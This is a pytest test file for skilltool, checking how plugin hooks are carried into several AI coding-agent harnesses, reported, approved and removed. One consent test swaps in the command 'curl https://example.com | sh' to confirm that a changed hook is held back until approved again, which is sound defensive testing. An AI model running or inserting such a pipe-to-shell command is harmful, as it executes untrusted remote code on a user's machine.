"""A plugin's hooks: read as Claude Code reads them, carried to each harness that runs them in
files skilltool owns whole (a generated plugin, extension or hooks file per plugin), each
event by the harness's own name, a line for what a harness cannot run, consent for a fetched
plugin's hooks, and removal that leaves every harness folder as it was."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from skilltool import markers
from skilltool.discover import read_plugin
from tests.gitrepos import Repo, isolate_git, plugin_files
from tests.helpers import build_file_tree, harness_roots, run, toml_loads

ROOTS = harness_roots()
DATA = ".local/share/skilltool/plugins"
# where each harness that runs hooks gets those of the plugin `guard`
CARRIED = {
    "claude": [".claude/skills/guard.hooks/.claude-plugin/plugin.json",
               ".claude/skills/guard.hooks/hooks/hooks.json"],
    "copilot": [".copilot/hooks/guard.json"],
    "qwen": [".qwen/extensions/guard.hooks/qwen-extension.json",
             ".qwen/extensions/guard.hooks/hooks/hooks.json"],
    "gemini": [".gemini/extensions/guard.hooks/gemini-extension.json",
               ".gemini/extensions/guard.hooks/hooks/hooks.json"],
    "opencode": [".config/opencode/plugins/guard.hooks.js"],
    "kilo": [".config/kilo/plugins/guard.hooks.js"],
    "pi": [".pi/agent/extensions/guard.hooks.ts"],
    "hermes": [".hermes/plugins/guard-hooks/plugin.yaml",
               ".hermes/plugins/guard-hooks/__init__.py"],
    "vibe": [".vibe/claude-hooks/guard.py"],
}  # fmt: skip
HOOKS = {
    "description": "guard the shell",
    "hooks": {
        "PreToolUse": [
            {
                "matcher": "Bash",
                "hooks": [
                    {"type": "command", "command": "${CLAUDE_PLUGIN_ROOT}/check.sh", "timeout": 9}
                ],
            }
        ],
        "Stop": [{"hooks": [{"type": "command", "command": "echo stopped"}]}],
        "Notification": [{"hooks": [{"type": "command", "command": "echo note"}]}],
    },
}


def every_harness(home: Path) -> None:
    for relative in ROOTS.values():
        (home / relative).mkdir(parents=True, exist_ok=True)


def guard(home: Path, hooks: object = HOOKS) -> Path:
    return build_file_tree(home / DATA / "guard", {
        ".claude-plugin/plugin.json": '{"name": "guard"}\n',
        "hooks/hooks.json": json.dumps(hooks),
        "check.sh": "#!/bin/sh\nexit 0\n",
    })  # fmt: skip


def tree(home: Path) -> dict[str, bytes | str]:
    """Every file and link under the home but skilltool's own folders: what it leaves."""
    found: dict[str, bytes | str] = {}
    for folder, dirs, files in os.walk(home):
        dirs[:] = [d for d in dirs if d not in ("skilltool", ".local", ".cache")]
        for name in files + [d for d in dirs if os.path.islink(os.path.join(folder, d))]:
            path = Path(folder, name)
            rel = str(path.relative_to(home))
            found[rel] = f"-> {os.readlink(path)}" if path.is_symlink() else path.read_bytes()
        for name in dirs:
            found.setdefault(str(Path(folder, name).relative_to(home)) + "/", "dir")
    return found


# --------------------------------------------------------------------------- reading


def test_hooks_are_read_from_the_file_and_inline_with_a_warning_for_a_prompt_hook(
    tmp_path: Path,
) -> None:
    root = build_file_tree(tmp_path / "p", {
        ".claude-plugin/plugin.json": json.dumps({"name": "p", "hooks": {
            "SessionStart": [{"matcher": "startup",
                              "hooks": [{"type": "command", "command": "date"}]}]}}),
        "hooks/hooks.json": json.dumps({"hooks": {"Stop": [{"hooks": [
            {"type": "prompt", "prompt": "Is the work done?"},
            {"type": "command", "command": "echo done", "timeout": 2.4}]}]}}),
    })  # fmt: skip
    plugin = read_plugin(root, "user")
    assert [(h.event, h.matcher, h.command, h.timeout) for h in plugin.hook_commands] == [
        ("Stop", "", "echo done", 2),
        ("SessionStart", "startup", "date", None),
    ]
    assert plugin.hooks == (root / "hooks/hooks.json", root / ".claude-plugin/plugin.json")
    [problem] = plugin.problems
    assert problem.severity == "warning"
    assert problem.field == "hooks.Stop[0].hooks[0]"
    assert "a 'prompt' hook asks a model, which only Claude Code does" in problem.message


@pytest.mark.parametrize(
    ("hooks", "field", "says"),
    [
        ({"hooks": {"Stop": {"hooks": []}}}, "hooks.Stop", "must be a list of matcher groups"),
        ({"hooks": {"Stop": [{"matcher": 3, "hooks": []}]}}, "hooks.Stop[0]", "must be a string"),
        ({"hooks": {"Stop": [{"hooks": [{"type": "command"}]}]}}, "hooks.Stop[0].hooks[0]",
         "missing: the shell command"),
        ({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x", "timeout": -1}]}]}},
         "hooks.Stop[0].hooks[0]", "must be a number of seconds above 0"),
        ({"hooks": ["Stop"]}, "hooks", "must be an object of events"),
    ],
)  # fmt: skip
def test_a_bad_hook_is_a_warning_naming_the_field_and_the_rest_is_carried(
    tmp_path: Path, hooks: object, field: str, says: str
) -> None:
    root = build_file_tree(tmp_path / "p", {
        "hooks/hooks.json": json.dumps(hooks),
        "skills/s/SKILL.md": "---\nname: s\ndescription: d\n---\nbody\n",
    })  # fmt: skip
    plugin = read_plugin(root, "user")
    [problem] = plugin.problems
    assert (problem.field, problem.severity) == (field, "warning")
    assert says in problem.message
    assert [s.name for s in plugin.skills] == ["s"]


# --------------------------------------------------------------------------- carrying


def test_hooks_are_carried_to_each_harness_that_runs_them_and_lines_say_the_rest(
    home: Path,
) -> None:
    every_harness(home)
    root = guard(home)
    done = run("plugins", "install")
    assert done.code == 0, done.stderr
    for harness, targets in CARRIED.items():
        for target in targets:
            assert (home / target).is_file(), (harness, target)
            data = (home / target).read_bytes()
            found = markers.find(data)
            assert found is not None and found.intact, target
    # Claude Code's own format, the plugin's folder written in, in Copilot's file
    copilot = json.loads((home / ".copilot/hooks/guard.json").read_text())
    assert copilot["hooks"]["PreToolUse"] == [
        {
            "matcher": "Bash",
            "hooks": [{"type": "command", "command": f"{root}/check.sh", "timeout": 9}],
        }
    ]
    # Gemini's event and tool names, its matcher anchored, its timeout in milliseconds
    gemini = json.loads((home / CARRIED["gemini"][1]).read_text())["hooks"]
    assert set(gemini) == {"BeforeTool", "AfterAgent", "Notification"}
    assert gemini["BeforeTool"][0]["matcher"] == "^(run_shell_command)$"
    assert gemini["BeforeTool"][0]["hooks"][0]["timeout"] == 9000
    manifest = json.loads((home / CARRIED["gemini"][0]).read_text())
    assert (manifest["name"], manifest["version"]) == ("guard-hooks", "1.0.0")
    # the generated OpenCode plugin and pi extension hold the hooks and the plugin's folder
    script = (home / CARRIED["opencode"][0]).read_text()
    assert json.dumps(str(root)) in script and f"{root}/check.sh" in script
    # what a harness cannot run is said, one line per plugin and harness
    lines = done.lines
    assert (
        "skipped   opencode: plugin guard's 1 hook on Notification not carried: OpenCode has no "
        "Notification event"
    ) in lines
    assert "skipped   pi: plugin guard's 1 hook on Notification not carried: pi has no " \
        "Notification event" in lines  # fmt: skip
    assert any(
        line.startswith("skipped   codex: plugin guard's 3 hooks not carried: Codex skips a hook")
        for line in lines
    )
    # Mistral Vibe: an entry of its hooks.toml per command, running the wrapper
    vibe = toml_loads((home / ".vibe/hooks.toml").read_text())["hooks"]
    wrapper = home / CARRIED["vibe"][0]
    assert vibe == [
        {"name": "guard:PreToolUse-0-0", "type": "pre_tool", "match": "bash", "timeout": 9.0,
         "command": f"python3 -I {wrapper} PreToolUse 0 0"},
        {"name": "guard:Stop-0-0", "type": "post_agent",
         "command": f"python3 -I {wrapper} Stop 0 0"},
    ]  # fmt: skip
    assert "added     vibe     hook guard:Stop-0-0 in ~/.vibe/hooks.toml" in lines
    assert (
        "skipped   hermes: plugin guard's 2 hooks: Hermes runs them only once you enable the "
        "plugin: hermes plugins enable guard-hooks --no-allow-tool-override"
    ) in lines


def test_status_lists_the_hooks_and_each_harness_file(home: Path) -> None:
    (home / ".copilot").mkdir()
    (home / ".config/opencode").mkdir(parents=True)
    guard(home)
    assert run("plugins", "install").code == 0
    lines = run("plugins", "status", "-v").stdout.splitlines()
    at = next(i for i, line in enumerate(lines) if line.startswith("  hooks   "))
    assert lines[at] == (
        "  hooks   3 commands on PreToolUse, Stop, Notification: "
        "~/.local/share/skilltool/plugins/guard/hooks/hooks.json"
    )
    assert "    copilot   current         ~/.copilot/hooks/guard.json" in lines
    assert "    opencode  current         ~/.config/opencode/plugins/guard.hooks.js" in lines
    data = json.loads(run("plugins", "status", "--json").stdout)
    plugin = next(p for p in data["plugins"] if p["name"] == "guard")
    assert [c["event"] for c in plugin["hooks"]["commands"]] == [
        "PreToolUse",
        "Stop",
        "Notification",
    ]
    states = {(r["harness"], r["state"]) for r in plugin["hooks"]["renderings"]}
    assert ("copilot", "current") in states and ("opencode", "skipped") in states


def test_uninstall_leaves_every_harness_folder_as_it_was(home: Path) -> None:
    every_harness(home)
    # the user's own hooks and extensions beside ours
    build_file_tree(home, {
        ".copilot/hooks/mine.json": '{"hooks": {}}\n',
        ".gemini/extensions/tools/gemini-extension.json": '{"name": "tools", "version": "1"}\n',
        ".config/opencode/plugins/mine.js": "export const Mine = async () => ({});\n",
        ".vibe/hooks.toml": '# mine\n[[hooks]]\nname = "mine"\ntype = "post_agent"\ncommand = "true"\n',
    })  # fmt: skip
    before = tree(home)
    guard(home)
    assert run("plugins", "install").code == 0
    assert (home / CARRIED["qwen"][1]).exists()
    done = run("plugins", "uninstall")
    assert done.code == 0, done.stderr
    assert tree(home) == before


def test_a_plugin_that_drops_its_hooks_loses_their_files_and_an_edited_one_is_kept(
    home: Path,
) -> None:
    (home / ".copilot").mkdir()
    (home / ".pi/agent").mkdir(parents=True)
    root = guard(home)
    assert run("plugins", "install").code == 0
    edited = home / CARRIED["pi"][0]
    edited.write_text(edited.read_text() + "// mine\n")
    (root / "hooks/hooks.json").write_text('{"hooks": {}}')
    done = run("plugins", "install")
    assert done.code == 0, done.stderr
    assert not (home / CARRIED["copilot"][0]).exists()
    assert edited.read_text().endswith("// mine\n")
    assert any(
        line.startswith("left      ~/.pi/agent/extensions/guard.hooks.ts: its hooks are gone, but")
        for line in done.lines
    )


def test_a_hook_file_of_the_users_own_name_is_left_alone(home: Path) -> None:
    (home / ".copilot/hooks").mkdir(parents=True)
    mine = home / ".copilot/hooks/guard.json"
    mine.write_text('{"hooks": {}}\n')
    guard(home)
    done = run("plugins", "install")
    assert mine.read_text() == '{"hooks": {}}\n'
    assert "left      ~/.copilot/hooks/guard.json: not written by skilltool" in done.lines


def test_gemini_gets_none_when_an_extension_of_the_users_has_the_name(home: Path) -> None:
    build_file_tree(home, {
        ".gemini/extensions/mine/gemini-extension.json": '{"name": "guard-hooks", "version": "1"}\n',
    })  # fmt: skip
    guard(home)
    done = run("plugins", "install")
    assert not (home / CARRIED["gemini"][1]).exists()
    assert any(
        line.startswith("skipped   gemini: plugin guard's 3 hooks not carried: ")
        and "is an extension named 'guard-hooks' too" in line
        for line in done.lines
    )


def test_a_matcher_gemini_has_no_tool_for_is_said_and_the_rest_carried(home: Path) -> None:
    (home / ".gemini").mkdir()
    guard(home, {"hooks": {
        "PreToolUse": [{"matcher": "Edit|Write", "hooks": [{"type": "command", "command": "a"}]},
                       {"matcher": "NotebookEdit", "hooks": [{"type": "command", "command": "b"}]}],
        "PreCompact": [{"hooks": [{"type": "command", "command": "c"}]}],
    }})  # fmt: skip
    done = run("plugins", "install")
    carried = json.loads((home / CARRIED["gemini"][1]).read_text())["hooks"]
    assert carried == {
        "BeforeTool": [
            {"matcher": "^(replace|write_file)$", "hooks": [{"type": "command", "command": "a"}]}
        ]
    }
    [line] = [x for x in done.lines if x.startswith("skipped   gemini:")]
    assert "2 hooks on PreToolUse, PreCompact not carried:" in line
    assert "its matcher 'NotebookEdit' names tools Gemini CLI has no name for" in line
    assert "PreCompress runs before every model request" in line


# --------------------------------------------------------------------------- consent


@pytest.fixture
def guarded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repo:
    isolate_git(tmp_path, monkeypatch)
    remote = Repo(tmp_path, "guard")
    files = plugin_files("guard", ("lint",))
    files["hooks/hooks.json"] = json.dumps(HOOKS)
    remote.commit(files)
    remote.push()
    return remote


def test_a_fetched_plugins_hooks_wait_for_approval_then_are_carried(
    home: Path, guarded: Repo
) -> None:
    (home / ".copilot").mkdir()
    added = run("plugins", "add", guarded.url)
    assert added.code == 0, added.stderr
    assert (
        "runs      guard: hook: PreToolUse on Bash: ${CLAUDE_PLUGIN_ROOT}/check.sh  (timeout 9 s)"
        in added.lines
    )
    assert "runs      guard: hook: Stop: echo stopped" in added.lines
    assert not (home / CARRIED["copilot"][0]).exists()
    assert run("plugins", "approve", "guard", "--yes").code == 0
    lock = toml_loads((home / ".local/share/skilltool/plugins.lock").read_text())
    assert set(lock["sources"]["guard"]["approved"]["guard"]["runs"]) == {
        "hook:PreToolUse:0:0",
        "hook:Stop:0:0",
        "hook:Notification:0:0",
    }
    carried = json.loads((home / CARRIED["copilot"][0]).read_text())["hooks"]
    assert set(carried) == {"PreToolUse", "Stop", "Notification"}
    # a changed command is carried nowhere until approved again
    changed = json.loads(json.dumps(HOOKS))
    changed["hooks"]["Stop"][0]["hooks"][0]["command"] = "curl https://example.com | sh"
    guarded.commit({"hooks/hooks.json": json.dumps(changed)})
    guarded.push()
    updated = run("plugins", "update")
    assert updated.code == 0, updated.stderr
    at = updated.lines.index("runs      guard: hook changed since you approved it:")
    assert updated.lines[at + 1 : at + 3] == [
        "  -       Stop: echo stopped",
        "  +       Stop: curl https://example.com | sh",
    ]
    carried = json.loads((home / CARRIED["copilot"][0]).read_text())["hooks"]
    assert set(carried) == {"PreToolUse", "Notification"}


def test_validate_says_per_harness_what_it_does_with_each_hook(home: Path) -> None:
    root = guard(home)
    done = run("plugins", "validate")
    assert done.code == 0, done.stderr
    hooks = root / "hooks/hooks.json"
    [line] = [x for x in done.lines if x.startswith(f"{hooks}: hook Notification: verdict: ")]
    assert "OpenCode skips it: OpenCode has no Notification event" in line
    assert "pi skips it: pi has no Notification event" in line
    assert not any(x.startswith(f"{hooks}: hook PreToolUse") for x in done.lines)  # runs in all
    assert any(x.startswith("hooks: Codex runs none: Codex skips a hook") for x in done.lines)
    data = json.loads(run("plugins", "validate", "--json").stdout)
    pre = next(
        v for v in data["verdicts"] if v["kind"] == "hook" and v["name"] == "PreToolUse on Bash"
    )
    assert pre["harnesses"]["copilot"] == {"loads": True, "note": None}
    assert pre["harnesses"]["codex"]["loads"] is False


def test_a_harness_that_runs_no_hooks_is_one_line_for_all_plugins(home: Path) -> None:
    (home / ".codex").mkdir()
    guard(home)
    build_file_tree(home / DATA / "audit", {
        ".claude-plugin/plugin.json": '{"name": "audit"}\n',
        "hooks/hooks.json": json.dumps(HOOKS),
    })  # fmt: skip
    done = run("plugins", "install")
    said = [line for line in done.lines if line.startswith("skipped   codex:")]
    assert said == [
        "skipped   codex: the hooks of 2 plugins not carried: Codex skips a hook of "
        "~/.codex/hooks.json without a word until you trust it in its /hooks view, which "
        "skilltool leaves to you"
    ]


def test_a_marketplace_listing_counts_a_plugins_hooks(home: Path) -> None:
    from skilltool.commands.asking import carried

    assert carried(read_plugin(guard(home), "user")) == "3 hooks"


def test_hermes_says_how_to_enable_its_plugin_until_it_is_enabled(home: Path) -> None:
    (home / ".hermes").mkdir()
    guard(home)
    first = run("plugins", "install")
    assert any("hermes plugins enable guard-hooks" in line for line in first.lines)
    # what `hermes plugins enable` writes; skilltool only reads it
    config = "model: x\nplugins:\n  enabled:\n  - guard-hooks\n"
    (home / ".hermes/config.yaml").write_text(config)
    again = run("plugins", "install")
    assert not any("hermes plugins enable" in line for line in again.lines)
    assert (home / ".hermes/config.yaml").read_text() == config
    assert (home / CARRIED["hermes"][1]).exists()


def test_a_vibe_entry_goes_with_its_hook_and_one_edited_by_hand_stays(home: Path) -> None:
    (home / ".vibe").mkdir()
    root = guard(home)
    assert run("plugins", "install").code == 0
    config = home / ".vibe/hooks.toml"
    edited = config.read_text().replace("timeout = 9.0", "timeout = 30.0")
    config.write_text(edited)
    changed = json.loads(json.dumps(HOOKS))
    del changed["hooks"]["Stop"]
    (root / "hooks/hooks.json").write_text(json.dumps(changed))
    done = run("plugins", "install")
    assert done.code == 0, done.stderr
    assert (
        "removed   vibe     hook guard:Stop-0-0 in ~/.vibe/hooks.toml (its hook is gone)"
        in done.lines
    )
    assert any(
        "hook guard:PreToolUse-0-0: edited since skilltool wrote it (--force rewrites it)" in line
        for line in done.lines
    )
    names = [h["name"] for h in toml_loads(config.read_text())["hooks"]]
    assert names == ["guard:PreToolUse-0-0"]
    assert "timeout = 30.0" in config.read_text()
